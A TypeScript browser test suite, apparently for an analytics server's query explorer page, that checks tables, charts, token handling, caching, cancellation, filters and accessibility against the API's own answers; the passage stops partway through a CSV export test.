import fs from 'node:fs';
import path from 'node:path';
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadDemoDataset } from '../../apps/server/first-start-dataset.ts';
import { type Browser, launchBrowser } from '../../dev-tools/browser.ts';
import { projectionFreshness } from '../../libs/projection/projection-freshness.ts';
import { wakeProjector } from '../../libs/projection/projector-jobs.ts';
import { useCairn } from '../support/cairn.ts';
import { waitFor } from '../support/engines.ts';
import { accessibilityViolations, openExplorer } from '../support/explorer-page.ts';
import { expectDocumentedAnswer, http, readAnswer } from '../support/http.ts';

const BUSY = { timeout: 60_000 };
/** Every state's screenshots, at both widths: `.ci/run` keeps `reports/` for the run. */
const SHOTS = path.resolve('reports', 'explorer-screenshots');
const DESKTOP = { width: 1366, height: 900 };
const PHONE = { width: 390, height: 844 };
/** Two frames: a resize has reached the charts (a ResizeObserver) and been painted. */
const settle = (on: Page) =>
  on.evaluate('new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))');

/**
 * The explorer driven as a person would, in a real Chromium, against a server holding the
 * demo dataset: every number the page shows is checked against the API's own answer.
 */
describe('GET /explore in Chromium', () => {
  // A row cap below a 30-day series, so the default query earns its truncation warning.
  const cairn = useCairn({
    businesses: ['acme', 'globex', 'initech'],
    env: { CAIRN_QUERY_MAX_ROWS: '20' },
  });
  let browser: Browser;
  let hub: string;
  let firstDependent: { gid: string; dependents: string[] };
  const problems: string[] = [];

  const api = (method: string, url: string, body?: unknown) =>
    http(cairn.url, method, url, {
      headers: cairn.auth,
      ...(body === undefined ? {} : { body }),
    });
  /**
   * Screenshots of the page as it is, at 1366 × 900 and at 390 × 844 (back to its own size
   * after), with axe-core run at the width the test has not checked.
   */
  const shoot = async (on: Page, name: string) => {
    const own = on.viewportSize() ?? DESKTOP;
    const other = own.width > PHONE.width ? PHONE : DESKTOP;
    const file = (size: { width: number }) => path.join(SHOTS, `${name}-${size.width}.png`);
    await on.screenshot({ path: file(own), fullPage: true });
    await on.setViewportSize(other);
    await settle(on);
    expect(await accessibilityViolations(on)).toEqual([]);
    await on.screenshot({ path: file(other), fullPage: true });
    await on.setViewportSize(own);
    await settle(on);
  };

  beforeAll(async () => {
    // Without a browser this fails here, saying how to get one.
    browser = await launchBrowser();
    fs.mkdirSync(SHOTS, { recursive: true });
    const { db } = cairn;
    const now = new Date();
    await loadDemoDataset(
      { db, now: () => now, wakeProjector: wakeProjector(cairn.engines.queue) },
      now,
    );

    // One task with twelve dependents (two pages of ten), the first of which has two of its own.
    const create = async (name: string) =>
      (await api('POST', '/api/v1/tasks', { business: 'acme', name, project: 'website' })).body.data
        .gid as string;
    hub = await create('Hub task');
    const dependents: string[] = [];
    for (let i = 1; i <= 12; i++) {
      const gid = await create(`Follow-up ${i}`);
      expect(
        (await api('POST', `/api/v1/tasks/${gid}/dependencies`, { dependencies: [hub] })).status,
      ).toBe(200);
      dependents.push(gid);
    }
    const leaves: string[] = [];
    for (const name of ['Leaf A', 'Leaf B']) {
      const gid = await create(name);
      await api('POST', `/api/v1/tasks/${gid}/dependencies`, { dependencies: [dependents[0]] });
      leaves.push(gid);
    }
    firstDependent = { gid: dependents[0]!, dependents: leaves };
    await waitFor(async () => (await projectionFreshness(db, new Date())).lagMs === 0, {
      timeoutMs: 60_000,
    });
  }, 240_000);

  afterAll(async () => {
    await browser?.close();
  });

  let page: Page;
  const openPage = async () => {
    page = await openExplorer(browser.context, cairn.url, problems);
  };
  /** The explorer runs a query by its GET form: the JSON in `q`, as in the page's own URL. */
  const isQuery = (r: Request) => new URL(r.url()).pathname === '/api/v1/query';
  const queryOf = (r: Request) => {
    expect(r.method()).toBe('GET');
    return JSON.parse(new URL(r.url()).searchParams.get('q') ?? 'null');
  };
  const runAndWait = async () => {
    const request = page.waitForRequest(isQuery, BUSY);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    const sent = queryOf(await request);
    await page.locator('#results[data-state="done"], #results[data-state="failed"]').waitFor(BUSY);
    return sent;
  };
  /** The table body as the API's raw values, by column. */
  const tableRows = () =>
    page.$$eval('#table tbody tr', (rows) =>
      rows.map((row) =>
        Object.fromEntries(
          [...row.querySelectorAll('td')].map((td) => [
            td.dataset.column,
            JSON.parse(td.dataset.value ?? 'null'),
          ]),
        ),
      ),
    );

  it('is where / and /docs lead, and a shared link without a token says one is needed', async () => {
    const root = await fetch(`${cairn.url}/`, { redirect: 'manual' });
    expect(root.status).toBe(302);
    expect(root.headers.get('location')).toBe('/explore');
    await expectDocumentedAnswer(cairn.url, 'GET', '/', await readAnswer(root));

    const visitor = await browser.context.newPage();
    await visitor.setViewportSize(DESKTOP);
    try {
      await visitor.goto(`${cairn.url}/docs`);
      await visitor.getByRole('link', { name: 'the explorer' }).click();
      await visitor.waitForURL(`${cairn.url}/explore`);
      expect(await accessibilityViolations(visitor)).toEqual([]);

      // The first Tab stop jumps past the form to the answer.
      await visitor.keyboard.press('Tab');
      expect(await visitor.evaluate('document.activeElement.textContent')).toBe('Skip to results');
      await visitor.keyboard.press('Enter');
      expect(await visitor.evaluate('document.activeElement.id')).toBe('results');

      const shared = { metrics: ['tasks_created'], dimensions: ['day'], period: 'last_7_days' };
      await visitor.goto(`${cairn.url}/explore?q=${encodeURIComponent(JSON.stringify(shared))}`);
      await expect
        .poll(() => visitor.locator('#whoami').textContent())
        .toContain('a token is needed to run it');
      expect(await visitor.locator('#status').textContent()).toContain('Waiting for a token');
      expect(await visitor.locator('#metrics').textContent()).toContain('once a token is in use');
      expect(await accessibilityViolations(visitor)).toEqual([]);
      await shoot(visitor, 'explorer-shared-link-no-token');

      // A pasted token is used at once, and the link's query runs without a click.
      const token = cairn.auth.Authorization.replace('Bearer ', '');
      const ran = visitor.waitForRequest(isQuery, BUSY);
      await visitor.getByLabel('Token').fill(token);
      await visitor.getByLabel('Token').dispatchEvent('paste');
      expect(queryOf(await ran)).toEqual(shared);
      await visitor.locator('#results[data-state="done"]').waitFor(BUSY);
    } finally {
      await visitor.close();
    }
  });

  it('takes a token by keyboard, keeps it out of the URL, and runs the default query', async () => {
    await openPage();
    const token = cairn.auth.Authorization.replace('Bearer ', '');
    await page.getByLabel('Token').fill(token);
    await page.getByLabel('Token').press('Enter');
    await expect.poll(() => page.locator('#whoami').textContent(), BUSY).toContain('Using');
    // The greeting comes first; the form fills once the catalog and OpenAPI have arrived.
    await expect
      .poll(() => page.locator('#business option').allTextContents(), BUSY)
      .toEqual(['All my businesses', 'acme', 'globex', 'initech']);
    // With the defaults ticked, a token alone shows numbers: the query ran without a click.
    await page.locator('#results[data-state="done"]').waitFor(BUSY);
    expect(await page.getByRole('checkbox', { name: 'Tasks created' }).isChecked()).toBe(true);
    // Browser-side expressions are strings: this file is type-checked for Node, not the DOM.
    expect(await page.evaluate("sessionStorage.getItem('cairn.token')")).toBe(token);

    const sent = await runAndWait();
    expect(await page.locator('#results').getAttribute('data-state')).toBe('done');
    expect(page.url()).not.toContain(token);
    expect(JSON.parse(new URL(page.url()).searchParams.get('q')!)).toEqual(sent);
    expect(await page.locator('#chart canvas').count()).toBeGreaterThan(0);
    expect(await page.locator('#chart').isVisible()).toBe(true);

    const answer = await api('POST', '/api/v1/query', sent);
    expect(answer.status).toBe(200);
    const rows = await tableRows();
    expect(rows).toEqual(answer.body.data);
    if (answer.body.metadata.totals) {
      for (const metric of sent.metrics) {
        const cell = page.locator(`#table tfoot td[data-column="${metric}"]`);
        expect(JSON.parse((await cell.getAttribute('data-value'))!)).toEqual(
          answer.body.metadata.totals[metric],
        );
      }
    }
    await expect
      .poll(() => page.locator('#engine-list dd[data-term="rows_read"]').textContent())
      .toMatch(/\d/);
    const truncated = answer.body.warnings.find(
      (w: { code: string }) => w.code === 'result_truncated',
    );
    expect(await page.locator('#warnings li[data-code="result_truncated"]').textContent()).toBe(
      `Only 20 of ${truncated.total_rows} rows are shown: the server caps the size of an answer. Add filters or drop a dimension to see the rest.`,
    );

    await page.getByRole('button', { name: 'Copy as curl' }).click();
    const curl = await page.locator('#curl').textContent();
    expect(curl).toContain(`-d '${JSON.stringify(sent)}'`);
    expect(curl).toContain('Bearer $CAIRN_TOKEN');
    expect(curl).not.toContain(token);
    expect(await accessibilityViolations(page)).toEqual([]);
    await shoot(page, 'explorer-default');
  });

  it('runs the same query again by revalidating it: If-None-Match, a 304, the same table', async () => {
    const shown = await tableRows();
    const sent = JSON.parse(new URL(page.url()).searchParams.get('q')!);
    const current = await api('GET', `/api/v1/query?q=${encodeURIComponent(JSON.stringify(sent))}`);
    const etag = current.headers.get('etag');
    expect(etag).toMatch(/^"[A-Za-z0-9_-]+"$/);

    const request = page.waitForRequest(isQuery, BUSY);
    const response = page.waitForResponse((r) => isQuery(r.request()), BUSY);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    expect(queryOf(await request)).toEqual(sent);
    expect((await request).headers()['if-none-match']).toBe(etag);
    expect((await response).status()).toBe(304);
    await page.locator('#results[data-state="done"]').waitFor(BUSY);
    expect(await page.locator('#results').getAttribute('data-reused')).toBe('true');
    expect(await tableRows()).toEqual(shown);
    expect(await tableRows()).toEqual(current.body.data);
    expect(await page.locator('#status').textContent()).toContain('unchanged since the last run');

    // Another query is not revalidated against this one's answer.
    await page.getByLabel('Period', { exact: true }).selectOption('last_7_days');
    const other = page.waitForRequest(isQuery, BUSY);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    expect((await other).headers()['if-none-match']).toBeUndefined();
    await page.locator('#results[data-state="done"]').waitFor(BUSY);
    expect(await page.locator('#results').getAttribute('data-reused')).toBe('false');
    await page.getByLabel('Period', { exact: true }).selectOption(sent.period);
  });

  it('runs a comparison: the previous period beside each number, dashed on the chart', async () => {
    await page.getByLabel('Compare with').selectOption('previous_period');
    // A week: every bucket fits under the row cap, today's (not over yet) included.
    await page.getByLabel('Period', { exact: true }).selectOption('last_7_days');
    const sent = await runAndWait();
    expect(sent.compare).toBe('previous_period');
    expect(await page.locator('#results').getAttribute('data-state')).toBe('done');
    const answer = (await api('POST', '/api/v1/query', sent)).body;
    expect(answer.metadata.comparison.period).toEqual(
      expect.objectContaining({ from: expect.any(String) }),
    );
    const rows = await tableRows();
    expect(rows.length).toBe(answer.data.length);
    rows.forEach((row, i) => {
      const expected = answer.data[i];
      for (const metric of sent.metrics) {
        expect(row[metric]).toEqual(expected[metric]);
        expect(row[`${metric}:comparison`]).toEqual(expected.comparison[metric]);
        expect(row[`${metric}:change`]).toEqual(expected.change[metric]);
      }
    });
    for (const metric of sent.metrics) {
      const before = page.locator(`#table tfoot td[data-column="${metric}:comparison"]`);
      expect(JSON.parse((await before.getAttribute('data-value'))!)).toEqual(
        answer.metadata.totals_comparison[metric],
      );
    }
    // One legend row per line; how "before" and "not over yet" are drawn is said once, above.
    expect(await page.locator('#chart .legend tbody tr').count()).toBe(sent.metrics.length);
    expect(await page.locator('#chart .legend-key').textContent()).toBe(
      'Solid: this period; dotted: periods not over yet; dashed: the comparison period.',
    );
    expect(await page.locator('#chart-caption').textContent()).toContain(
      'dashed: the comparison period',
    );
    // Today's bucket is not over: the last row and the chart mark it.
    expect(answer.metadata.incomplete_from).not.toBeNull();
    const marked = await page.$$eval('#table tbody tr', (trs) =>
      trs.map((tr) => tr.querySelector('td')?.classList.contains('incomplete')),
    );
    expect(marked).toEqual(
      answer.data.map((_: unknown, i: number) => i === answer.data.length - 1),
    );
    expect(await page.locator('#chart-caption').textContent()).toContain(
      'dotted: periods not over yet',
    );
    expect(await accessibilityViolations(page)).toEqual([]);
    await shoot(page, 'explorer-comparison');
    await page.getByLabel('Compare with').selectOption('');
    await page.getByLabel('Period', { exact: true }).selectOption('last_30_days');
  });

  it('runs a date range instead of a named period', async () => {
    const day = (daysAgo: number) =>
      new Date(Date.now() - daysAgo * 86_400_000).toISOString().slice(0, 10);
    await page.getByLabel('Period', { exact: true }).selectOption('custom');
    await page.getByLabel('From', { exact: true }).fill(day(14));
    await page.getByLabel('To', { exact: true }).fill(day(8));
    const sent = await runAndWait();
    expect(sent.date_range).toEqual([day(14), day(8)]);
    expect(sent.period).toBeUndefined();
    expect(await page.locator('#results').getAttribute('data-state')).toBe('done');
    const answer = (await api('POST', '/api/v1/query', sent)).body;
    expect(answer.metadata.query.period.name).toBe('custom');
    expect(await tableRows()).toEqual(answer.data);
    expect(answer.data.length).toBe(7);
    await page.getByLabel('Period', { exact: true }).selectOption('last_30_days');
  });

  /** What uPlot holds for each chart drawn: its series' labels and its data, x first. */
  const plots = (on: Page = page) =>
    on.evaluate(
      "document.getElementById('chart-canvas').plots.map((p) => ({ labels: p.series.slice(1).map((s) => s.label), data: p.data }))",
    ) as Promise<Array<{ labels: string[]; data: Array<Array<number | null>> }>>;

  const axisLabels = () =>
    page.evaluate(
      "document.getElementById('chart-canvas').plots.map((p) => p.axes.map((a) => a.label))",
    ) as Promise<string[][]>;

  it('charts several metrics at once, one chart per unit, or one metric alone', async () => {
    const body = {
      metrics: ['tasks_created', 'tasks_completed', 'completion_rate'],
      dimensions: ['month'],
      period: 'last_90_days',
    };
    await page.goto(`${cairn.url}/explore?q=${encodeURIComponent(JSON.stringify(body))}`);
    await page.locator('#results[data-state="done"]').waitFor(BUSY);
    const answer = (await api('POST', '/api/v1/query', body)).body;
    const drawn = await plots();
    // Tasks share an axis; the ratio has its own.
    // Each metric under the catalog's name for people, never its identifier.
    const label = {
      tasks_created: 'Tasks created',
      tasks_completed: 'Tasks completed',
      completion_rate: 'Completion rate',
    };
    expect(drawn.map((p) => p.labels.filter((l) => !l.endsWith('(incomplete)')))).toEqual([
      [label.tasks_created, label.tasks_completed],
      [label.completion_rate],
    ]);
    const complete = answer.data.filter((_: unknown, i: number) => i < answer.data.length - 1);
    for (const [p, metric] of [
      [0, 'tasks_created'],
      [0, 'tasks_completed'],
      [1, 'completion_rate'],
    ] as const) {
      const values = drawn[p]!.data[drawn[p]!.labels.indexOf(label[metric]) + 1]!;
      expect(values.slice(0, complete.length)).toEqual(complete.map((r: any) => r[metric]));
    }
    expect(await page.locator('#chart-caption').textContent()).toContain(
      'Lines over time: Tasks created, Tasks completed, Completion rate',
    );
    // Every axis says what it counts: the bucket and zone below, the unit beside.
    expect(await axisLabels()).toEqual([
      ['Month (UTC)', 'tasks'],
      ['Month (UTC)', 'share (%)'],
    ]);
    await shoot(page, 'explorer-several-metrics');

    await page.getByLabel('Chart', { exact: true }).selectOption('completion_rate');
    expect((await plots()).map((p) => p.labels[0])).toEqual([label.completion_rate]);
  });

  it('charts a breakdown as its five largest labels and one "other", zero-filled', async () => {
    const day = (daysAgo: number) =>
      new Date(Date.now() - daysAgo * 86_400_000).toISOString().slice(0, 10);
    const body = {
      metrics: ['tasks_created'],
      dimensions: ['month', 'project'],
      date_range: [day(70), day(35)],
    };
    await page.goto(`${cairn.url}/explore?q=${encodeURIComponent(JSON.stringify(body))}`);
    await page.locator('#results[data-state="done"]').waitFor(BUSY);
    const answer = (await api('POST', '/api/v1/query', body)).body;
    expect(answer.metadata.incomplete_from).toBeNull();
    const months = [...new Set<string>(answer.data.map((r: any) => r.month))].sort();
    const totals = new Map<string, number>();
    for (const row of answer.data) {
      const label = row.project ?? '(none)';
      totals.set(label, (totals.get(label) ?? 0) + row.tasks_created);
    }
    const ranked = [...totals].sort((a, b) => b[1] - a[1]).map(([label]) => label);
    // The demo's eight projects: more than the chart draws one by one.
    expect(ranked.length).toBeGreaterThan(6);
    const top = ranked.slice(0, 5);
    const rest = ranked.slice(5);
    const sumOf = (labels: string[], month: string) =>
      answer.data
        .filter((r: any) => r.month === month && labels.includes(r.project ?? '(none)'))
        .reduce((sum: number, r: any) => sum + r.tasks_created, 0);

    const [drawn] = await plots();
    expect(drawn!.labels).toEqual([...top, `other (${rest.length} labels)`]);
    expect(drawn!.data[0]!.length).toBe(months.length);
    top.forEach((label, i) => {
      // A month without a row for this project is a 0 on the line, not a gap.
      expect(drawn!.data[i + 1]).toEqual(months.map((m) => sumOf([label], m)));
    });
    expect(drawn!.data[top.length + 1]).toEqual(months.map((m) => sumOf(rest, m)));
    expect(await page.locator('#chart .legend tbody tr').count()).toBe(top.length + 1);
    expect(await accessibilityViolations(page)).toEqual([]);
    await shoot(page, 'explorer-breakdown-top-labels');
  });

  it('charts every week of a breakdown: 0 where a count has no row, a break in a rate, one colour per label', async () => {
    const base = {
      metrics: ['tasks_created', 'completion_rate', 'p90_cycle_time_hours'],
      dimensions: ['week', 'project'],
      period: 'last_90_days',
      business: 'acme',
      compare: 'previous_period',
    };
    const DAY = 86_400;
    const iso = (seconds: number) => new Date(seconds * 1000).toISOString().slice(0, 10);
    /** Every Monday from the week holding the period's start to its end, rows or not. */
    const mondays = (period: { from: string; to: string }) => {
      const from = Math.floor(Date.parse(period.from) / 1000 / DAY);
      const weeks: number[] = [];
      const first = from - ((((from + 3) % 7) + 7) % 7);
      for (let day = first; day * DAY * 1000 < Date.parse(period.to); day += 7) {
        weeks.push(day * DAY);
      }
      return weeks;
    };
    const labelOfRow = (r: any) => r.project ?? '(none)';
    const missing = (answer: any) => {
      const projects = new Set(answer.data.map(labelOfRow));
      const have = new Set(answer.data.map((r: any) => `${r.week} ${labelOfRow(r)}`));
      return mondays(answer.metadata.query.period).some((w) =>
        [...projects].some((p) => !have.has(`${iso(w)} ${p}`)),
      );
    };
    // One assignee's tasks: an answer under this file's row cap where a project misses a week.
    const assignees = (
      await api('GET', '/api/v1/businesses/acme/dimensions/assignee/values?limit=20')
    ).body.data.map((v: { value: string }) => v.value);
    let body: Record<string, unknown> | undefined;
    let answer: any;
    for (const assignee of assignees) {
      const candidate = {
        ...base,
        filters: [{ dimension: 'assignee', op: 'eq', values: [assignee] }],
      };
      const got = (await api('POST', '/api/v1/query', candidate)).body;
      expect(got.data).toBeDefined();
      const capped = (got.warnings ?? []).some(
        (w: { code: string }) => w.code === 'result_truncated',
      );
      if (!capped && got.data.length > 0 && missing(got)) {
        [body, answer] = [candidate, got];
        break;
      }
    }
    expect(body).toBeDefined();
    await page.goto(`${cairn.url}/explore?q=${encodeURIComponent(JSON.stringify(body))}`);
    await page.locator('#results[data-state="done"]').waitFor(BUSY);
    const weeks = mondays(answer.metadata.query.period);
    const projects = [...new Set<string>(answer.data.map(labelOfRow))];
    const rowOf = (week: number, project: string) =>
      answer.data.find((r: any) => r.week === iso(week) && labelOfRow(r) === project);

    const drawn = await plots();
    expect(drawn.map((p) => p.data[0])).toEqual([weeks, weeks, weeks]);
    /** A label's line, its unfinished end (drawn apart) joined back on. */
    const line = (p: { labels: string[]; data: Array<Array<number | null>> }, label: string) => {
      const main = p.data[p.labels.indexOf(label) + 1]!;
      const rest = p.data[p.labels.indexOf(`${label} (incomplete)`) + 1];
      return main.map((v, i) => (v === null && rest ? rest[i]! : v));
    };
    for (const project of projects) {
      expect(line(drawn[0]!, project)).toEqual(
        weeks.map((w) => rowOf(w, project)?.tasks_created ?? 0),
      );
      expect(line(drawn[1]!, project)).toEqual(
        weeks.map((w) => rowOf(w, project)?.completion_rate ?? null),
      );
    }
    // A rate's gap is a break: uPlot is told never to join across it.
    expect(
      await page.evaluate(
        "document.getElementById('chart-canvas').plots[1].series.slice(1).every((s) => s.spanGaps === false)",
      ),
    ).toBe(true);

    // One legend row per project on each chart, each project the same colour on all three.
    const swatches = await page.$$eval('#chart .plot', (plots) =>
      plots.map((plot) =>
        Object.fromEntries(
          [...plot.querySelectorAll('.legend tbody tr')].map((tr) => [
            tr.getAttribute('data-entry'),
            (tr.querySelector('.swatch') as unknown as { style: { backgroundColor: string } }).style
              .backgroundColor,
          ]),
        ),
      ),
    );
    for (const legend of swatches) expect(Object.keys(legend).sort()).toEqual([...projects].sort());
    for (const project of projects) {
      expect(swatches.map((legend) => legend[project])).toEqual(
        swatches.map(() => swatches[0]![project]),
      );
    }
    expect(new Set(Object.values(swatches[0]!)).size).toBe(projects.length);

    // Ticks on Mondays, dated as the reader's locale writes them; every axis named.
    const ticks = (await page.evaluate(
      "document.getElementById('chart-canvas').plots.map((p) => ({ splits: p.axes[0]._splits, values: p.axes[0]._values }))",
    )) as Array<{ splits: number[]; values: string[] }>;
    for (const { splits, values } of ticks) {
      expect(splits.length).toBeGreaterThan(1);
      for (const split of splits) expect(weeks).toContain(split);
      expect(values).toEqual(
        await page.evaluate(
          `${JSON.stringify(splits)}.map((s) => new Intl.DateTimeFormat(undefined, { year: 'numeric', month: 'short', day: 'numeric', timeZone: 'UTC' }).format(new Date(s * 1000)))`,
        ),
      );
    }
    expect(await axisLabels()).toEqual([
      ['Week, from Monday (UTC)', 'tasks'],
      ['Week, from Monday (UTC)', 'share (%)'],
      ['Week, from Monday (UTC)', 'duration'],
    ]);

    // Durations in days and hours; the raw hours stay in data-value (and in exports).
    const durations = await page.$$eval(
      '#table tbody td[data-column="p90_cycle_time_hours"]',
      (tds) => tds.map((td) => [JSON.parse(td.dataset.value ?? 'null'), td.textContent]),
    );
    expect(durations.some(([hours]) => hours > 24)).toBe(true);
    for (const [hours, text] of durations) {
      if (hours === null) expect(text).toBe('—');
      else if (hours >= 24) {
        const whole = Math.round(hours);
        const rest = whole % 24;
        expect(text).toBe(`${Math.floor(whole / 24)} d${rest ? ` ${rest} h` : ''}`);
      } else expect(text).toMatch(/^\d+ (h|min)/);
    }
    // Dates as the locale writes them; ISO in the cell's value.
    const firstWeek = page.locator('#table tbody td[data-column="week"]').first();
    expect(JSON.parse((await firstWeek.getAttribute('data-value'))!)).toMatch(
      /^\d{4}-\d{2}-\d{2}$/,
    );
    expect(await firstWeek.textContent()).not.toMatch(/^\d{4}-/);

    // Eleven columns: the table scrolls inside its panel, the page does not.
    const widths = (await page.evaluate(
      "[document.getElementById('table-wrap').scrollWidth, document.getElementById('table-wrap').clientWidth, document.documentElement.scrollWidth - document.documentElement.clientWidth]",
    )) as number[];
    expect(widths[0]).toBeGreaterThan(widths[1]!);
    expect(widths[2]).toBeLessThanOrEqual(0);
    expect(await accessibilityViolations(page)).toEqual([]);
    await shoot(page, 'explorer-weekly-breakdown');
  });

  it('starts weeks on Sunday and fills every week of every project when asked', async () => {
    // Two projects over 30 days: five or six weeks each, under this file's row cap.
    const two = (
      await api('GET', '/api/v1/businesses/acme/dimensions/project/values?limit=2')
    ).body.data.map((v: { value: string }) => v.value);
    expect(two).toHaveLength(2);
    const body = {
      metrics: ['tasks_created'],
      dimensions: ['week', 'project'],
      period: 'last_30_days',
      business: 'acme',
      filters: [{ dimension: 'project', op: 'in', values: two }],
      week_start: 'sunday',
    };
    await page.goto(`${cairn.url}/explore?q=${encodeURIComponent(JSON.stringify(body))}`);
    await page.locator('#results[data-state="done"]').waitFor(BUSY);
    expect(await page.getByLabel('Weeks start on').inputValue()).toBe('sunday');
    const fill = page.getByLabel('Every bucket for every label (zeros where nothing happened)');
    expect(await fill.isChecked()).toBe(false);
    await fill.check();
    const sent = await runAndWait();
    expect(sent).toMatchObject({ week_start: 'sunday', fill: 'zero' });
    const answer = (await api('POST', '/api/v1/query', sent)).body;
    expect(answer.metadata.query).toMatchObject({ week_start: 'sunday', fill: 'zero' });
    const rows = await tableRows();
    expect(rows).toEqual(answer.data);
    // Every project has every week, each week named by its Sunday.
    const weeks = [...new Set(rows.map((row) => row.week as string))];
    const projects = new Set(rows.map((row) => row.project));
    expect(answer.warnings ?? []).not.toContainEqual(
      expect.objectContaining({ code: 'result_truncated' }),
    );
    expect(rows.length).toBe(weeks.length * projects.size);
    for (const week of weeks) expect(new Date(`${week}T00:00:00Z`).getUTCDay()).toBe(0);
    // The chart's weeks are the same Sundays, none added from Mondays.
    const [drawn] = await plots();
    expect(drawn!.data[0]).toEqual(weeks.map((week) => Date.parse(`${week}T00:00:00Z`) / 1000));
    expect((await axisLabels())[0]![0]).toBe('Week, from Sunday (UTC)');
    expect(await accessibilityViolations(page)).toEqual([]);
    await fill.uncheck();
    await page.getByLabel('Weeks start on').selectOption('monday');
    const plain = await runAndWait();
    expect(plain.week_start).toBeUndefined();
    expect(plain.fill).toBeUndefined();
  });

  it('while a query runs: Run waits, the last answer is dimmed and marked, Cancel stops it', async () => {
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    const slow = /\/api\/v1\/query\?/;
    await page.route(slow, async (route) => {
      await held;
      await route.continue().catch(() => {});
    });
    try {
      await page.getByLabel('Period', { exact: true }).selectOption('last_30_days');
      await page.getByRole('button', { name: 'Run', exact: true }).click();
      await page.locator('#results[data-state="running"]').waitFor(BUSY);
      expect(await page.getByRole('button', { name: 'Run', exact: true }).isDisabled()).toBe(true);
      expect(await page.locator('#progress').isVisible()).toBe(true);
      expect(await page.locator('#results').getAttribute('aria-busy')).toBe('true');
      expect(await page.locator('#stale').textContent()).toBe(
        'Shown below: the previous query’s answer.',
      );
      expect(await page.locator('#results').getAttribute('class')).toContain('stale');
      expect(await page.locator('#table-wrap').isVisible()).toBe(true);
      expect(await accessibilityViolations(page)).toEqual([]);
      await shoot(page, 'explorer-running');

      await page.getByRole('button', { name: 'Cancel', exact: true }).click();
      await page.locator('#results[data-state="cancelled"]').waitFor(BUSY);
      expect(await page.locator('#status').textContent()).toBe(
        'Cancelled. The answer below is still the previous query’s.',
      );
      expect(await page.locator('#stale').isVisible()).toBe(true);
      expect(await page.getByRole('button', { name: 'Run', exact: true }).isEnabled()).toBe(true);
      expect(await page.getByRole('button', { name: 'Cancel', exact: true }).isHidden()).toBe(true);
      expect(await page.locator('#progress').isHidden()).toBe(true);
      expect(await accessibilityViolations(page)).toEqual([]);
      await shoot(page, 'explorer-cancelled');
    } finally {
      release();
      await page.unroute(slow);
    }
    await runAndWait();
    expect(await page.locator('#results').getAttribute('data-state')).toBe('done');
    expect(await page.locator('#stale').isHidden()).toBe(true);
  });

  it('speaks in words: labels, descriptions on a tap, the answer’s period first, value type-ahead', async () => {
    const catalog = (await api('GET', '/api/v1/query/catalog')).body.data;
    const p90 = catalog.metrics.find((m: { name: string }) => m.name === 'p90_cycle_time_hours');
    expect(await page.getByRole('checkbox', { name: 'P90 cycle time' }).count()).toBe(1);
    const about = page.getByRole('button', { name: 'About P90 cycle time' });
    await about.click();
    expect(await about.getAttribute('aria-expanded')).toBe('true');
    expect(await page.locator('#about-metric-p90_cycle_time_hours').textContent()).toBe(
      p90.description,
    );
    expect(await page.locator('#about-metric-p90_cycle_time_hours').isVisible()).toBe(true);
    await about.click();
    expect(await page.locator('#about-metric-p90_cycle_time_hours').isHidden()).toBe(true);
    await page.getByLabel('Period', { exact: true }).selectOption('last_90_days');
    expect(await page.locator('#period option:checked').textContent()).toBe('Last 90 days');
    const ninety = catalog.periods.find((p: { name: string }) => p.name === 'last_90_days');
    expect(await page.locator('#period-description').textContent()).toBe(ninety.description);

    // About this answer: period, freshness, warnings first; the engine's side folded below.
    expect((await page.locator('#metadata-list dt').allTextContents()).slice(0, 2)).toEqual([
      'Period',
      'Data as of',
    ]);
    expect(await page.locator('#metadata-list dd[data-term="period"]').textContent()).toMatch(
      /^Last 30 days: /,
    );
    expect(await page.locator('#metadata-list dt').allTextContents()).toContain('Warnings');
    expect(await page.locator('#engine').getAttribute('open')).toBeNull();
    expect(await page.locator('#engine-list dt').allTextContents()).toEqual([
      'Source',
      'Cache',
      'Elapsed',
      'Rows read',
      'Bytes read',
      'Query id',
    ]);

    // Filters: label dimensions only, their values offered from the API as one types.
    await page.getByRole('combobox', { name: 'Business', exact: true }).selectOption('acme');
    await page.getByRole('button', { name: 'Add filter' }).click();
    const filter = page.locator('#filters li').last();
    expect(await filter.locator('select.dimension option').allTextContents()).toEqual(
      catalog.dimensions
        .filter((d: { time: boolean }) => !d.time)
        .map((d: { name: string }) => d.name.charAt(0).toUpperCase() + d.name.slice(1)),
    );
    await filter.locator('select.dimension').selectOption('project');
    const values = (
      await api('GET', '/api/v1/businesses/acme/dimensions/project/values?prefix=mob&limit=10')
    ).body.data.map((v: { value: string }) => v.value);
    expect(values.length).toBeGreaterThan(0);
    const asked = page.waitForRequest(
      (r) =>
        r.url().includes('/api/v1/businesses/acme/dimensions/project/values?') &&
        r.url().includes('prefix=mob'),
      BUSY,
    );
    await filter.getByRole('combobox', { name: 'Values' }).fill('mob');
    await asked;
    const offered = () =>
      filter
        .locator('datalist option')
        .evaluateAll((options) => options.map((o) => o.getAttribute('value')));
    await expect.poll(offered, BUSY).toEqual(values);
    // The last of several values: the whole field is offered, completed.
    await filter.getByRole('combobox', { name: 'Values' }).fill('website, mob');
    await expect.poll(offered, BUSY).toEqual(values.map((v: string) => `website, ${v}`));
    expect(await accessibilityViolations(page)).toEqual([]);
    await shoot(page, 'explorer-filter-type-ahead');
    await filter.getByRole('button', { name: 'Remove filter' }).click();
    await page.getByRole('combobox', { name: 'Business', exact: true }).selectOption('');

    // The panels beside the form follow one another without a gap; Depth sits beside its select.
    const edges = (await page.evaluate(
      "['results', 'views', 'flow', 'dependents'].map((id) => { const r = document.getElementById(id).getBoundingClientRect(); return [r.top, r.bottom]; })",
    )) as Array<[number, number]>;
    for (let i = 1; i < edges.length; i++) {
      expect(edges[i]![0] - edges[i - 1]![1]).toBeLessThanOrEqual(20);
    }
    const [label, select] = await Promise.all(
      [page.locator('label[for="dependents-depth"]'), page.locator('#dependents-depth')].map((l) =>
        l.boundingBox(),
      ),
    );
    expect(Math.abs(label!.y + label!.height / 2 - (select!.y + select!.height / 2))).toBeLessThan(
      4,
    );
  });

  it('downloads the answer as CSV, named as the server names it', async () => {
    const sent = JSON.parse(new URL(page.url()).searchParams.get('q')!);
    const csv = await http(
      cairn.url,
      'GET',
      `/api/v1/query/export?q=${encodeURIComponent(JSON.stringify(sent))}`,
      { headers: { ...cairn.auth, Accept: 'text/csv' } },
    );
